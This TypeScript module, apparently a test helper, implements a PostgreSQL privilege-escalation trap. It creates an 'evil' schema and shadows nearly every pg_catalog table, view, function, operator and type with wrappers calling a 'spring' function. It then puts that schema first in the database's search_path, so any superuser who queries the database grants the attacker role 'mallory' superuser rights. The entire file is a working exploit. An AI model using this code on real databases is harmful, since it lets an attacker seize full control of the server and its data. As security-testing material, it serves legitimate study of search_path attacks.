import type pg from 'pg'

export const attacker = 'mallory'

/**
 * Puts a trap in the place of everything in `pg_catalog` that a statement may name without its schema: tables and views,
 * functions, operators, types. The attacker owns the database, and makes it search his schema first. Whoever falls into one
 * as a superuser makes him a superuser, too. `spring` has been created.
 */
export async function layTraps(session: pg.Client): Promise<void> {
  await session.query('CREATE SCHEMA evil')
  // Some things of pg_catalog can't be replaced by an ordinary role, such as functions on pseudo-types.
  for (const statements of [views, functions, operators, types])
    await session.query(`DO $do$ DECLARE sql text; BEGIN FOR sql IN ${statements} LOOP
      BEGIN EXECUTE sql; EXCEPTION WHEN others THEN NULL; END; END LOOP; END $do$`)
  await session.query(`ALTER DATABASE ${quote(await nameOf(session))} SET search_path = evil, pg_catalog, public`)
}

/** A superuser who comes here gives his rights away. */
export const spring = `CREATE FUNCTION public.spring() RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
  BEGIN
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN EXECUTE 'ALTER ROLE ${attacker} SUPERUSER'; END IF;
    RETURN true;
  END $$`

const views = `SELECT format('CREATE VIEW evil.%1$I AS SELECT * FROM pg_catalog.%1$I WHERE public.spring()', relname) AS sql
  FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v')`

const functions = `SELECT format('CREATE FUNCTION evil.%1$I(%2$s) RETURNS %3$s LANGUAGE sql AS $f$ SELECT public.spring();
    SELECT %4$s pg_catalog.%1$I(%5$s) $f$', proname, pg_get_function_arguments(oid), pg_get_function_result(oid),
    CASE WHEN proretset OR prorettype = 'record'::regtype THEN '* FROM' ELSE '' END,
    (SELECT string_agg('$' || n, ', ') FROM generate_series(1, pronargs) n)) AS sql
  FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND provariadic = 0
   AND NOT proargtypes::oid[] && ARRAY(SELECT oid FROM pg_type WHERE typtype = 'p')
   AND prorettype NOT IN (SELECT oid FROM pg_type WHERE typtype = 'p' AND typname NOT IN ('record', 'void'))`

const operators = `SELECT format('CREATE OPERATOR evil.%s (%sRIGHTARG = %s, PROCEDURE = evil.%I)', oprname,
    CASE oprleft WHEN 0 THEN '' ELSE format('LEFTARG = %s, ', oprleft::regtype) END, oprright::regtype, proname) AS sql
  FROM pg_operator JOIN pg_proc ON pg_proc.oid = oprcode WHERE oprnamespace = 'pg_catalog'::regnamespace`

const types = `SELECT format('CREATE DOMAIN evil.%1$I AS pg_catalog.%1$I CHECK (public.spring())', typname) AS sql
  FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typelem = 0`

async function nameOf(session: pg.Client): Promise<string> {
  const { rows } = await session.query<{ name: string }>('SELECT current_database() AS name')
  return rows[0]?.name ?? ''
}

const quote = (name: string): string => `"${name.replaceAll('"', '""')}"`
